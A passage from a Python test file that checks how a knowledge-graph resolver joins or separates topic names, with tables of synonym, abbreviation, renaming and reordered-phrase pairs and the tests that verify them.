    ("Pride in the Ethics of Work", "Pride in Work Ethics", False),
    ("Role of the Bank of England", "Role of England Bank", False),
    ("Concerns about the Cost of Capital", "Concerns about Capital Costs", False),
    # (not kept: a reordered name's adjective as its noun, "-ate" as "-ation": a review's
    # false joins, "rise in presidential pressure" / "rising pressure on the president",
    # "moderate views" / "views on moderation")
    ("Declining Trust in Politics", "Decline in Political Trust", False),
    ("Rise in Presidential Pressure", "Rising Pressure on the President", False),
    ("Moderate Views", "Views on Moderation", False),
    # ordinals as numbers; a word of growth with no other sense before one word; a link
    # word dropped only as written (AI-powered hacking is no hacking of AI)
    ("Fourth Industrial Revolution", "4th Industrial Revolution", True),
    ("Skyrocketing Rents", "Rising Rents", True),
    ("AI-Driven Tools", "AI Tools", True),
    ("AI-Powered Hacking", "Hacking of AI Systems", False),
    ("Czechia", "Czech Republic", True),
    ("Dubbing with AI", "AI Dubbing", True),
    ("Patients with Cancer", "Cancer Patients", True),
    ("Holiday Lets", "Vacation Rentals", True),
    # "the Fed"; congestion charging and pricing
    ("the Fed", "Federal Reserve", True),
    ("London Congestion Charging", "London Congestion Pricing", True),
    # "booming" before what an economy measures (a review's traps: rising stars, the
    # booming of guns and birds); "emergence", "popularity" and "a number of" are no
    # "rise" (first appearance, support, the things one by one)
    ("Booming Creator Economy", "Growth of the Creator Economy", True),
    ("Booming Rap Stars", "Rising Rap Stars", False),
    ("Booming Artillery Fire", "Rising Artillery Fire", False),
    ("Emergence of Supermassive Black Holes", "Growth of Supermassive Black Holes", False),
    ("Growing Popularity of Tariffs", "Increase in Tariffs", False),
    ("Growing Number of Rising Stars", "Rising Stars", False),
    ("Impact of Tariffs on Consumer Prices", "Tariffs' Effect on Consumer Prices", True),
    ("Buying Pre-Owned Clothing", "Purchasing Pre-Owned Clothes", True),
    # a person's office, a law's country (not kings, princes, generals: places, firms)
    ("Prime Minister Narendra Modi", "Narendra Modi", True),
    ("Senator Beto O'Rourke", "Beto O'Rourke", True),
    ("Dr. John Dee", "John Dee", True),
    ("Professor Geoffrey Hinton", "Geoffrey Hinton", True),
    ("Doctor Who Fandom", "Who Fandom", False),  # (no "Doctor": a title of works)
    ("Sir Walter Raleigh Hotel", "Walter Raleigh Hotel", False),
    ("CEO Pay Gap", "Pay Gap", False),
    ("Premier League Football", "League Football", False),
    ("Governor Nelson State Park", "Nelson State Park", False),
    ("Ambassador Bridge Blockade", "Bridge Blockade", False),
    ("Prince Edward Island", "Edward Island", False),
    ("General Electric Company", "Electric Company", False),
    ("US Inflation Reduction Act", "Inflation Reduction Act", True),
    # no company before its legal form: "UK plc", "Japan Inc." are a country, "Siemens
    # PLC" a controller (a review's traps of a rule tried and dropped)
    ("Calbee Inc.", "Calbee", False),
    ("UK plc", "UK", False),
    ("Japan Inc.", "Japan", False),
    # ... tried again with guards and dropped: an attack of 470 pairs found namesakes,
    # acronyms of other things and forms that are no legal form
    ("Apache Corp.", "Apache", False),
    ("Genomics plc", "Genomics", False),
    ("5G SA", "5G", False),
    ("EU Inc.", "EU", False),
    # (a review's traps of two rules tried and dropped: a second phrase after any
    # preposition kept last, "Y's from Z" read as the whole name's; who acts, an -ing
    # word and what it acts on as the action's noun, the -ing word read as a verb)
    ("Ban on Imports from Russia", "Import Ban from Russia", False),
    ("Removal of Posts by Politicians", "Post Removal by Politicians", False),
    ("Pension Funding in the UK", "UK Pension Funds", False),
    ("Market Sharing in the Cement Industry", "Market Share in the Cement Industry", False),
    ("Soil Healing in Africa", "African Soil Health", False),
    ("Energy Rating for Homes", "Energy Rationing for Homes", False),
    ("Rotting Crops", "Crop Rotation", False),  # (a short verb's guessed noun)
    ("Banning TikTok", "TikTok Ban", True),
    ("Taxing Carbon", "Carbon Taxation", True),
    ("Political Advertisements", "Political Advertising", True),
    # "shifting" is "changing" before what changes (not what is moved elsewhere);
    # transportation is transport (but the US department keeps its name)
    ("Shifting Narratives on Gender", "Changing Gender Narratives", True),
    ("Shifting Baseline Syndrome", "Changing Baseline Syndrome", False),
    ("Shifting Cultivation Practices", "Changing Cultivation Practices", False),
    ("Shifting Energy Demand", "Changing Energy Demand", False),
    ("Sustainable Transportation", "sustainable transport", True),
    ("Department of Transportation", "Department of Transport", False),
    ("Transportation Secretary", "Transport Secretary", False),
    ("Shifting Cultivation Patterns", "Changing Cultivation Patterns", False),
    # an acronym in capitals ending in S is no plural
    ("CLPS", "Commercial Lunar Payload Services", True),
    ("SARS Outbreak", "SAR Outbreak", False),
    ("AIDS", "Aid", False),
    # an adjective of a quality is no "of the noun" (but one of relation is)
    ("Physical Education", "Education in Physics", False),
    ("Natural Experiments", "Experiments in Nature", False),
    ("Natural Laws", "Laws of Nature", True),  # (... but of "of")
    ("Political Polarization", "Polarization in Politics", True),
    # an -ing word of an activity before what serves it is no verb of it (found in a
    # review's side note: these were one node)
    ("Boarding Schools", "School Boards", False),
    ("Shipping Containers", "Container Ships", False),
    ("Farming Robots", "Robot Farms", False),
    ("Regulating AI", "AI Regulation", True),
    # (a review's traps of two rules tried and dropped: an -ing noun as "X-ing of Y", a
    # verb between doer and object as its noun last)
    ("Testing Agents", "Testing of Agents", False),
    ("Learning Machines", "Machine Learning", False),
    ("Police Preventing Violence", "Police Violence Prevention", False),
    ("Students Evaluating Teachers", "Student Teacher Evaluation", False),
    # a name and what it is, in parentheses, is the name (a review: "Sora (video model)")
    ("Sora (video model)", "Sora", True),
    # an acronym in parentheses stands for the words it abbreviates only: "(AI)" after
    # "Rise of Artificial Intelligence" makes no "AI in AEC" (batch 11's false join)
    ("Rise of Artificial Intelligence (AI) in AEC", "AI in AEC", False),
    ("Rise of Artificial Intelligence (AI) in AEC", "Rise of AI in AEC", True),
    ("Increasing Adoption of Building Information Modeling (BIM)", "BIM", False),
    ("Rise of the Internet of Things (IoT)", "Rise of the IoT", True),
    ("First-Person View (FPV) Drones", "FPV Drones", True),
    # ... letters that abbreviate, not initials; or no run of last words at all (a
    # review's false joins)
    ("Bans on Generative AI (GenAI) Tools", "GenAI Tools", False),
    ("Bans on Generative AI (GenAI) Tools", "Bans on GenAI Tools", True),
    ("Decline of Augmented and Virtual Reality (AR/VR) Headsets", "AR/VR Headsets", False),
    # (what institutions do is not done to them: a review's trap)
    ("Declining Institutional Investment", "Declining Investment in Institutions", False),
    # company names keep their words: the sector is not TSMC
    ("Taiwan Chip Manufacturing", "Taiwan Semiconductor Manufacturing", False),
    ("Group Buying", "Group Purchasing", False),
    # (the twelfth blind batch's tune half) a last "growth" after two words is a rise
    # (not after one: "plant growth" is no rise of plants); a move toward a thing is a
    # shift; an -ic adjective's noun in -ia (academic / academia), not a noun's ("medic")
    ("Brand Publishing Growth", "Rise of Brand Publishing", True),
    ("Electric Vehicle Market Growth", "Rise of the Electric Vehicle Market", True),
    ("Plant Growth", "Rise of Plants", False),
    ("Move Toward Digital Payments", "Shift towards Digital Payments", True),
    ("Transition to Renewable Energy", "Shift to Renewable Energy", True),
    ("Humor in Academia", "Academic Humour", True),
    ("Nostalgic Marketing", "Marketing of Nostalgia", True),
    ("Medic Training", "Training in Media", False),
    # two prepositions of other roles are two things, though each name reorders as "Y
    # X" (who is acted on, who acts: a twelfth batch trap); of / in / for, to / toward
    # and to / for name one
    ("Impact on Jobs", "Impact of Jobs", False),
    ("Indifference of Historical Forces", "Indifference to Historical Forces", False),
    ("Pressure on Big Technology Firms", "Pressure from Big Technology Firms", False),
    ("Demand for Clean Energy", "Demand of Clean Energy", True),
    ("Quality Control of AI-Generated Content", "Quality Control in AI-Generated Content", True),
    ("Military Aid to Ukraine", "Military Aid for Ukraine", True),
    # the leading adjective of "ADJ X of Y" stays X's, never Y's (false joins of the
    # twelfth blind batch's holdout half), unless the lexicon writes it as a noun
    ("Regional Expansion of Cuisine", "Expansion of Regional Cuisines", False),
    ("Organic Growth in Retail", "Growth of Organic Retail", False),
    ("Ethical Use of AI", "Use of Ethical AI", False),
    ("Ethical Use of AI", "Ethical AI Use", True),
    ("Insufficient Funding for Research", "Lack of research funding", True),
    # a living thing's growth is no rise of it (a review of growth_as_rise)
    ("Indoor Plant Growth", "Rise of Indoor Plants", False),
    ("Facial Hair Growth", "Rise of Facial Hair", False),
    ("Coral Reef Growth", "Rise of Coral Reefs", False),
    ("Cancer Cell Growth", "Rise of Cancer Cells", False),
    ("Remote Work Growth", "Rise of Remote Work", True),
    # "expansion" last, after two words, is growth (not of one word: a policy), and "X
    # shifts" after two words a change (not a period of work); "erosion of" a decline
    ("Gig Economy Expansion", "Growth of the Gig Economy", True),
    ("Medicaid Expansion", "Medicaid Growth", False),
    ("State Medicaid Expansion", "State Medicaid Growth", False),
    ("Heathrow Airport Expansion", "Heathrow Airport Growth", False),
    ("Stock Market Expansion", "Stock Market Growth", False),
    ("Expansion of NATO", "Rise of NATO", False),
    ("Regional Demographic Shifts", "Regional Demographic Changes", True),
    ("Late Night Shift", "Late Night Change", False),
    ("Health Care Cost Shift", "Health Care Cost Change", False),
    ("Hospital Nursing Shifts", "Hospital Nursing Changes", False),
    ("Vibe Shift", "Vibe Change", False),
    ("Erosion of Public Trust", "Decline in Public Trust", True),
    ("Coastal Erosion", "Coastal Decline", False),
    ("Erosion of Voter Trust", "Voter Trust", False),
    ("Erosion of Coastal Towns", "Decline of Coastal Towns", False),
    # an adjective of place-adjectives.csv meets "X of the place" only, never a fixed name
    ("Thai Government", "Government of Thailand", True),
    ("Norwegian Sovereign Wealth Fund", "Sovereign Wealth Fund of Norway", True),
    ("Spanish Flu", "Flu in Spain", False),
    ("Chinese Medicine", "Medicine in China", False),
    ("Chinese EVs", "EVs in China", False),
    ("Swiss Cheese Model", "Cheese Model of Switzerland", False),
    ("Turkish Coffee", "Coffee of Turkey", False),
    ("Swiss Banks", "Banks of Switzerland", False),
    ("Mauritanian Fisheries", "Fisheries of Mauritius", False),
    ("Public Opinion of China", "Chinese Public Opinion", False),
    ("Views of Israel", "Israeli Views", False),
    ("Victims of Israel", "Israeli Victims", False),
    ("Takeover of China", "Chinese Takeover", False),
    ("Media Coverage in India", "Indian Media Coverage", True),
    ("Shifting Power Dynamics", "Changing Power Dynamics", True),
    ("Climate Policy Shift", "Climate Policy Change", True),
]


# (names of one corpus, the pair kept apart, the name the ambiguous third joins): a
# third name that reads either way joins one reading, never both (a review: whether the
# pair stayed apart hung on which name sorted first)
KEPT_APART_THROUGH_A_THIRD = [
    (("impact on AI", "impact of AI", "AI impact"), "impact of AI"),
    (("impact on jobs", "impact of jobs", "job impact"), "impact of jobs"),
    (("Impact on Agriculture", "Impact of Agriculture", "agriculture impact"),
     "Impact of Agriculture"),
    (("Regional Expansion of Cuisine", "Expansion of Regional Cuisines",
      "Regional Cuisine Expansion"), "Expansion of Regional Cuisines"),
    # (a second review: one reading written with a synonym)
    (("effect on AI", "impact of AI", "AI impact"), "effect on AI"),  # (the first met)
    # (a third review: one reading with its acronym spelled out, the corpus declaring it;
    # the reordering as written is met before the acronym is spelled out)
    (("impact on AI", "Impact of Artificial Intelligence", "AI impact",
      "Artificial Intelligence (AI)"), "impact on AI"),
    (("Impact of Artificial Intelligence", "impact on AI", "AI impact",
      "Artificial Intelligence (AI)"), "impact on AI"),
    (("Pressure on EVs", "Pressure of Electric Vehicles", "EV pressure",
      "Electric Vehicles (EVs)"), "Pressure on EVs"),
]


@pytest.mark.parametrize("names, reading", KEPT_APART_THROUGH_A_THIRD)
def test_two_readings_stay_apart_whatever_reads_as_both(names, reading):
    joined = join_keys([("concern", name) for name in names])

    def node(name):
        key = resolution_key(name)
        return joined.get(key, key)
    first, second, third, *_ = names  # (then any other names of the corpus)
    assert node(first) != node(second)
    assert node(third) == node(reading)


@pytest.mark.parametrize("table", ["PREPOSITIONS_AND_DERIVATIONS", "TRAP_HUNT", "QUALITIES",
                                   "IMPACTS_AND_ACTS"])
def test_prepositions_and_derivations_join_what_they_name_alike(table):
    pairs = globals()[table]
    decided = []
    for first, second, same in pairs:
        node = node_of([(first, second, same)])
        decided.append((first, second, node(first) == node(second)))
    assert decided == pairs


# (the names of one corpus; whether its first two are one node) for the table of
# abbreviations (kg/lexicon/abbreviations.csv)
ABBREVIATED = [
    (["EVs", "electric vehicles"], True),
    (["AR", "augmented reality"], True),
    (["ML models", "machine learning models"], True),
    (["hard sci-fi", "hard science fiction"], True),
    (["political ads", "political advertising"], True),
    (["biotech startups", "biotechnology startups"], True),
    (["FinTech", "financial technology"], True),
    # names of mixed case ending in a capital S are not plurals; "-a-" is the article
    (["SaaS", "software-as-a-service"], True),
    (["PaaS offerings", "Platform as a Service offerings"], True),
    (["GenAI", "generative AI"], True),
    (["WFH", "work from home"], True),
    # the table's meaning as the archive spaces it ("take-off" / "takeoff")
    (["eVTOL", "Electric Vertical Takeoff and Landing"], True),
    # the table says DEI is diversity, equity and inclusion: not these initials
    (["DEI", "Dependence on External Infrastructure"], False),
    # ... inside a longer name neither, when the archive names another of its meanings
    # (a trap hunt: IRA is the Inflation Reduction Act too)
    (["IRA Subsidies", "Individual Retirement Account Subsidies", "Inflation Reduction Act"],
     False),
    (["CoT reasoning", "chain of thought reasoning"], True),  # (not in the table)
    (["CBA", "Carbon Border Adjustment"], False),
    # the genre's institutions and indices: their own meaning, never others' initials
    (["CPI", "consumer price index"], True),
    (["COP", "Community of Practice"], False),
    (["EPA", "Economic Partnership Agreement"], False),
    # two meanings of the table in the corpus: which one is not known
    (["IP", "intellectual property", "internet protocol"], False),
    # the corpus spells SAR out otherwise: the corpus decides
    (["SAR satellites", "synthetic aperture radar satellites", "Search and Rescue (SAR)"], False),
    (["VR technology", "Voice Replication Technology"], False),
    (["EV", "event venues"], False),
    # the corpus spells EV out as one thing and names the table's meaning too: two meanings
    (["EVs", "electric vehicles", "Enterprise Value (EV)"], False),
    (["EVs", "Enterprise Value (EV)", "electric vehicles"], False),
    (["EVs", "Enterprise Value (EV)"], False),  # (a bare acronym in its usual meaning)
    # spelled out as a table meaning in other words, the corpus decides, unless it names
    # another meaning too
    (["SMEs", "Small and Medium Enterprises (SMEs)", "small and medium-sized enterprises"],
     True),
    (["CBA", "Collective Bargaining Agreements (CBAs)", "cost-benefit analysis"], False),
    # acronyms of the genre the table knows (and US / UK), dotted initials too
    (["PFAS contamination", "per- and polyfluoroalkyl substances contamination"], True),
    (["V2G", "vehicle-to-grid"], True),
    (["SAF", "sustainable aviation fuel"], True),
    (["PTSD", "post-traumatic stress disorder"], True),
    (["US", "United States"], True),
    (["U.S.", "United States"], True),
    (["UK Housing Crisis", "Housing Crisis in the United Kingdom"], True),
    # the genre's agencies, laws and terms of finance, health and defence, alone and
    # inside names; an acronym it knows keeps its meaning against others' initials
    (["DoD", "Department of Defense"], True),
    (["EUDR", "EU Deforestation Regulation"], True),
    (["mRNA Vaccines", "messenger RNA vaccines"], True),
    (["FDI", "foreign direct investment"], True),
    (["ETFs", "exchange-traded funds"], True),
    (["ETF", "Energy Transition Finance"], False),
    (["PRC", "Pollution Reduction Credits"], False),
    (["CDC", "Carbon Dioxide Capture"], False),
    # (not in the table, acronyms of the genre's other meanings: a review found these
    # joined the table's or kept from the archive's own)
    (["xAI", "Explainable Artificial Intelligence"], False),
    (["OTAs", "Online Travel Agencies (OTAs)", "over-the-air updates"], True),
    (["PoS", "Proof of Stake", "Point of Sale"], False),
    (["NIH Syndrome", "Not Invented Here Syndrome"], True),
    (["Flood EWS", "Flood Early Warning Systems"], True),
    (["ICE Vehicles", "internal combustion engine vehicles", "ICE raids"], True),
    # an acronym spelled out inside a name whose words another name orders otherwise
    (["EV Adoption", "Adoption of Electric Vehicles"], True),
    (["LLM Safety", "Safety of Large Language Models", "Large Language Models (LLMs)"], True),
    (["LLM Safety", "Large Language Models (LLMs)"], False),
    # (a review's false joins: governing AI is no governance by it)
    (["AI Governance", "Governance by Artificial Intelligence", "Artificial Intelligence (AI)"],
     False),
    (["LLM Evaluation", "Evaluation by Large Language Models", "Large Language Models (LLMs)"],
     False),
    # (a review's false join: xAI the company, which keys as XAI would)
    (["xAI", "explainable AI"], False),
    (["UAS", "unmanned aircraft systems", "University of Applied Sciences"], False),
    # words and names that are no acronyms as written (a review found each joined)
    (["It", "information technology"], False),
    (["The Who", "World Health Organization"], False),
    (["rags", "retrieval-augmented generation"], False),
    (["stem cells", "STEM", "science, technology, engineering and mathematics cells"], False),
    # an acronym of two meanings in the table: of three letters or more, the one the
    # archive names (its initials are evidence, as the issue allows; "neuro-linguistic
    # programming" is not named here) ...
    (["NLP", "natural language processing"], True),
    (["NLP", "natural language processing", "Neuro-Linguistic Programming"], False),
    (["VSM", "value stream mapping", "viable system model"], False),
    # ... never initials that are not one of its meanings
    (["SAR", "Strategic Analysis Review"], False),
    # ... nor when the archive says, even inside a longer name, it may mean another
    (["SAR", "Synthetic Aperture Radar", "Search-and-Rescue Drones"], False),
    # ... nor the other meaning when it is the one named
    (["NLP", "Neuro-Linguistic Programming"], False),
    # ... and of two letters never joined on it, even to the one named
    (["AI", "artificial insemination"], False),
    (["AI regulation", "artificial insemination regulation"], False),
    # an acronym the name does not write so says nothing ("Art Market" is no ART market)
    (["art market", "assisted reproductive technology market", "ART clinics"], False),
    (["Cap Reform", "Common Agricultural Policy reform", "CAP subsidies"], False),
    (["SAR drones", "synthetic aperture radar drones", "search and rescue drones"], False),
    # the archive's own spelling out, even an ambiguous one, decides first
    (["AD research", "advertising research", "Alzheimer's Disease (AD)"], False),
    (["PR strategy", "public relations strategy", "Press Release (PR)", "Pull Request (PR)"],
     False),
]


def first_two_joined(cases, kind="technology"):
    """(names, whether the first two are one node) for each corpus of names in `cases`."""
    decided = []
    for names, _ in cases:
        joined = join_keys([(kind, name) for name in names])
        first, second = (joined.get(resolution_key(n), resolution_key(n)) for n in names[:2])
        decided.append((names, first == second))
    return decided


def test_abbreviations_join_only_the_meaning_the_table_gives():
    assert first_two_joined(ABBREVIATED) == ABBREVIATED


# (the names of one corpus; whether its first two are one node) for a name that declares
# its other name in its parenthesis
RENAMED = [
    (["X (formerly Twitter)", "Twitter"], True),
    (["Twitter (now called X)", "X"], True),
    (["Meta (previously Facebook)", "facebook"], True),
    (["Cultivated Meat (also known as Lab-Grown Meat)", "lab-grown meats"], True),
    (["Cultivated Meat (a.k.a. Lab-Grown Meat)", "Lab-Grown Meat"], True),
    (["Bard (now Gemini)", "Gemini"], True),
    (["Mpox (formerly monkeypox)", "monkeypox"], True),
    (["Meta (formerly known as Facebook)", "Facebook"], True),
    # "now" before no name is no other name, nor a description (a review's false joins);
    # a name declared by two others is neither's; an acronym joins by its letters only
    (["Cloud Gaming (now mainstream)", "mainstream"], False),
    (["ChatGPT (known as a chatbot)", "chatbots"], False),
    (["Data (Called The New Oil)", "The New Oil"], False),
    (["Tariffs (previously announced)", "announced"], False),
    (["Generative AI (also called AI)", "AI", "artificial intelligence"], False),
    (["Meta (formerly Facebook)", "Facebook", "Oculus (formerly Facebook)"], False),
    # the other name of a longer name is only looked up by
    (["Foo (formerly Bar) Tools", "Bar Tools"], False),
    # a maker's product of mixed case is the product; not a common word
    (["OpenAI's ChatGPT", "ChatGPT"], True),
    (["Google's DeepMind", "DeepMind"], True),
    (["Apple's Watch", "Watch"], False),
    (["Apple's Struggles", "Struggles"], False),
    # a name in s written as a possessive
    (["Jevon's Paradox", "Jevons Paradox"], True),
    (["Alzheimer's Disease", "Alzheimers Disease"], True),
]


def test_a_declared_other_name_is_one_node():
    assert first_two_joined(RENAMED, "keyword") == RENAMED


# (first, second, whether one node) for the table of synonyms (kg/lexicon/synonyms.csv)
SYNONYMS = [
    ("driverless cars", "autonomous vehicles", True),
    ("Over-Reliance on AI Tutors", "Overdependence on AI Tutors", True),
    ("Resurgence of Nuclear Power", "Revival of Nuclear Power", True),
    ("Gothic Revival", "Gothic Resurgence", False),
    ("Mobile Phone Penetration in Africa", "Smartphone Penetration in Africa", False),
    ("Seniors", "Older Adults", True),
    ("Monkeypox Vaccination", "Mpox Vaccination", True),
    ("Home Prices", "House Prices", True),
    ("US Home Price Index", "US House Price Index", False),
    ("Senior Engineers", "Older Adult Engineers", False),
    ("Hiring for Senior Roles", "Hiring for Older Adult Roles", False),
    # places renamed or spelled anew; British and American words
    ("Burma", "Myanmar", True),
    ("Kiev Metro", "Kyiv Metro", True),
    ("Türkiye", "Turkey", True),
    ("Bangalore", "Bengaluru", True),
    # (a whole name only: inside a longer name the old name is another thing)
    ("Bombay Sapphire", "Mumbai Sapphire", False),
    ("Avian Flu in Turkeys", "Avian Flu in Türkiye", False),
    ("Petrol Prices", "gasoline prices", True),
    ("Macedonian Wine", "North Macedonian Wine", False),
    ("Self-Driving Vehicle Regulation", "autonomous vehicle regulation", True),
    ("food scarcity", "food shortage", True),
    ("internet fraud", "online fraud", True),
    ("Gen Z consumers", "Generation Z consumers", True),
    ("4-day week", "four-day work week", True),
    ("lab-grown meat", "cultivated meat", True),
    ("Women in Tech", "women in technology", True),
    ("COVID-19 pandemic", "Covid pandemic", True),
    ("Youth unemployment", "unemployment among young people", True),
    ("teen mental health", "Mental health of teenagers", True),
    ("Working from home", "remote work", True),
    ("Ghost Kitchens", "dark kitchens", True),
    ("Killer Robots", "Lethal Autonomous Weapons", True),
    ("myopia epidemic", "Nearsightedness Epidemic", True),
    ("Global Chip Shortage", "global semiconductor shortage", True),
    ("Public Transit", "Public Transportation", True),
    ("Self-Driving Trucks", "autonomous trucks", True),
    ("Rise of Robotaxis", "Rise of Driverless Taxis", True),
    ("Flying Taxis", "air taxis", True),
    ("Population Aging in Japan", "Japan's aging population", True),
    ("Self-Driving Labs", "Autonomous Laboratories", True),
    ("Driverless Lorries", "autonomous trucks", True),
    ("Aging of the Population", "Aging Population", True),
    ("Physician Shortage", "Shortage of Doctors", True),
    ("Youth Joblessness", "youth unemployment", True),
    ("Labor Force Participation", "Workforce Participation", True),
    ("Military Spending", "Defence Expenditure", True),
    ("Solar Parks", "Solar Farms", True),
    ("Carbon Capture and Sequestration", "Carbon Capture and Storage", True),
    ("Nuclear Arms Race", "Nuclear Weapons Race", True),
    ("Tech Giants", "Big Tech", True),
    ("Britain", "United Kingdom", True),
    ("climate change adaptation", "Climate Adaptation", True),
    ("Moon Exploration", "lunar exploration", True),
    ("student loan debt", "Student Debt", True),
    ("Great Britain", "United Kingdom", False),  # (the island, and Team GB, without NI)
    ("Russian Federation", "Russia", True),
    ("People's Republic of China", "China", True),
    ("Mental Health Problems", "mental health issues", True),
    ("Net-Zero Targets", "Net Zero Goals", True),
    ("Traffic Fatalities", "Road Deaths", True),
    ("Photovoltaic Modules", "Solar Panels", True),
    ("Sino-American Trade War", "US-China Trade War", True),
    ("Myocardial Infarction Risk", "heart attack risk", True),
    ("Gender Wage Gap", "gender pay gap", True),
    # (a review's false joins: job cuts are not all layoffs, a living wall is one kind
    # of green wall, a retirement income gap is a shortfall)
    ("Job Cuts", "Layoffs", False),
    ("Living Walls", "Green Walls", False),
    ("Retirement Income Gap", "Retirement income inequality", False),
    # (a review's false joins: products and laws named for kids, a profession that is
    # no doctor, a survey of that name)
    ("YouTube Kids", "Children on YouTube", False),
    ("Kids Code", "Children's Code", False),
    ("Physician Assistants", "Doctor's Assistants", False),
    ("Labour Force Survey", "Workforce Survey", False),
    # (a third review: the broader field, a related idea, the narrower part, a part)
    ("Speech Synthesis from Brain Signals", "Text-to-Speech from Brain Signals", False),
    ("Fuel Poverty", "energy poverty", False),
    ("Mass Transit Systems", "Public Transport Systems", False),
    ("Public Charging Points", "Public Charging Stations", False),
    # the frames machine-written names put around a phenomenon ("reliance on", "shift in")
    ("Reliance on Technology", "Technological Dependence", True),
    ("Dependency on AI", "Reliance on AI", True),
    ("Shift in Commuting Patterns", "Changes in commuting patterns", True),
    ("Utilization of AI tools", "Use of AI tools", True),
    ("Growth of remote work", "Increase in remote work", True),
    # (not expansion, proliferation: NATO's expansion is no rise of NATO; nor "X into
    # Y" as "X in Y": sewage into drinking water is no sewage in it; a review's traps)
    ("Expansion of NATO", "Rise of NATO", False),
    ("Sewage into Drinking Water", "Sewage in Drinking Water", False),
    ("Conversion of CO2", "Conversion into CO2", False),
    ("Expansion into Asia", "Rise in Asia", False),
    ("Resurgence of Vinyl", "Revival of Vinyl", True),
    ("Renewed Interest in Historical Algorithms", "Revival of Interest in Historical Algorithms", True),
    ("Revival of Vinyl", "Vinyl", False),
    ("Organ Transplant Waitlist Crisis", "Crisis of Organ Transplant Waiting Lists", True),
    ("Short-Form Video Dominance", "Dominance of Short Videos", True),
    ("Shift in Commuting Patterns", "Changing Commute Patterns", True),
    # "X using Y" is not "Y X": "AI governance" is the governance of AI (a review's traps)
    ("Governance using AI", "AI Governance", False),
    ("Risk Assessment using AI", "AI Risk Assessment", False),
    ("Companies Using AI", "AI Companies", False),
    ("Expansion of Data Centres", "Data Centres", False),
    ("Growing demand for local food.", "Rising demand for local food.", True),
    ("The growing awareness of climate risks.", "Increased awareness of climate risks", True),
    ("Emphasis on sustainability", "Focus on sustainability", True),
    ("Increasing competition for talent", "Rising competition for talent", True),
    ("Twenty-Minute City Concept", "20-Minute City Concept", True),
    ("Four-Day Week", "4-Day Week", True),  # (the lexicon's rows write it in words)
    ("four-day workweek", "4-day week", True),
    ("Twenty-Four-Hour News", "24-hour news", True),
    ("One Hundred Years of Solitude", "100 Years of Solitude", True),
    ("Emergence", "Rise", False),
    # (a second review's false joins: a word of growth alone, "emergence of", numbers
    # away from units of time, kitchens and clothes of another kind)
    ("Increasing Complexity", "Emergence of Complexity", False),
    ("Emergence of COVID-19", "Increase in COVID-19", False),
    ("Rising Powers", "Increased Powers", False),
    ("Increasing Returns", "Rising Returns", False),
    ("Rising Damp", "Increased Damp", False),
    ("Three-Body Problem", "3 Body Problem", False),
    ("Air Force One", "Air Force 1", False),
    ("Virtual Kitchen", "Ghost Kitchen", False),
    ("Clothes Line", "Clothing Line", False),
    ("Electric Car Adoption in India", "Electric Vehicle Adoption in India", False),
    ("Impact of Automation on Employment", "automation's impact on jobs", True),
    ("Lack of affordable housing", "affordable housing shortage", True),
    ("Struggles in AI adoption", "AI adoption challenges", True),
    ("Advances in solar technology", "Advancements in Solar Technology", True),
    ("Vaccine Uptake", "vaccine adoption", True),
    ("Insufficient Funding for Research", "Lack of research funding", True),
    ("Sleep Deprivation", "Lack of Sleep", True),
    ("Attention Deficit", "Lack of Attention", False),
    # (a review's false joins of "deficiency" and "absence of" as "lack of")
    ("Insulin Deficiency", "Insulin Shortage", False),
    ("Absence of Teachers", "Teacher Shortage", False),
    # ... never a frame for its opposite or a neighbour
    ("Rise of remote work", "Decline of remote work", False),
    ("Growing demand for local food.", "Declining demand for local food.", False),
    ("Dependence on AI", "Use of AI", False),
    # ... nor the words alone, which have other meanings (a review's false joins)
    ("climate change", "climate shift", False),
    ("Regime Shift", "Regime Change", False),
    ("Shift Work", "Changes in Work", False),
    ("Change Management", "Shift Management", False),
    ("Storm Surge", "Increase in Storms", False),
    ("emergence", "growth", False),
    ("Learning Difficulties", "Challenges in Learning", False),
    ("AI Jobs", "Employment of AI", False),
    ("Software Dependencies", "Reliance on Software", False),
    ("Drug Utilization", "Drug Use", False),
    ("Advance Care Planning", "Advancements in Care Planning", False),
    ("Spread of Cancer Cells", "Cancer Cell Proliferation", False),
    ("Growing Cannabis", "Rise of Cannabis", False),
    ("TikTok Challenges", "TikTok's Struggles", False),
    # neighbours and broader terms are not synonyms; only the listed wordings are
    ("misinformation", "disinformation", False),
    ("telehealth", "telemedicine", False),
    ("e-commerce", "online shopping", False),
    ("power dynamics", "energy dynamics", False),
    ("internet", "online", False),
    ("climate change", "global warming", False),
    # British and American words for voting by post; the box office's takings; power
    # prices are electricity prices (the thirty-first session, from a blind batch's
    # tune half)
    ("Mail-In Ballots", "Postal Votes", True),
    ("Voting by Mail", "Mail-in Voting", True),
    ("Postal Votes", "Postal Voting", False),
    ("Box Office Revenue", "box-office takings", True),
    ("Negative Power Prices", "Negative Electricity Prices", True),
    ("Power Bills", "Electricity Bills", True),
    ("Power Prices", "Energy Prices", False),
    ("Driver-Centric Policy Adaptation", "Driver-Centred Policy Adaptation", True),
    ("Human-Centric AI", "Human-Centered AI", True),
    ("Eurocentric History", "European History", False),
    # Trend frames (the thirty-fifth session): proliferation of X as its rise (not
    # emergence, popularity nor a number's growth: above), a fall or drop in X as its decline,
    # dwindling, plummeting, waning X as declining, mounting debt or pressure as rising;
    # and the rise of a whole phrase ("decline in trust in science")
    ("Proliferation of AI Agents", "Rise of AI Agents", True),
    ("Declining Birth Rates", "Fall in Birth Rates", True),
    ("Declining Birth Rates", "Drop in Birth Rates", True),
    ("Slump in Car Sales", "Declining Car Sales", True),
    ("Fall in Trust in Government", "Declining Trust in Government", True),
    # ... a fall in a measure only (an attack's false joins)
    ("Falls in Older Adults", "Decline in Older Adults", False),
    ("Drop-in Clinics", "Declining Clinics", False),
    ("Fall in Love with AI", "Decline in Love with AI", False),
    ("Drop in the Ocean", "Ocean Decline", False),
    ("Dwindling Bee Populations", "Declining Bee Populations", True),
    ("Waning Trust in Media", "Declining Trust in Media", True),
    ("Mounting Household Debt", "Growing Household Debt", True),
    ("Mounting Pressure on Hospitals", "Rising Pressure on Hospitals", True),
    ("Diminishing Trust in Science", "Decline in Trust in Science", True),
    ("Rise of Remote Work in Finance", "Rising Remote Work in Finance", True),
    # ... a frame is not the thing, nor mounting what is mounted, nor a growth what grows
    ("Proliferation of Drones", "Drones", False),
    ("Mounting Wall Brackets", "Rising Wall Brackets", False),
    ("Mounting Hardware Costs", "Rising Hardware Costs", False),
    ("Rising Rents", "Rent Increases", True),
    ("Falling Life Expectancy", "Declining Life Expectancy", True),
    ("Mounting Death Toll", "Rising Death Toll", True),
    ("Tax Increases", "Rising Taxes", True),
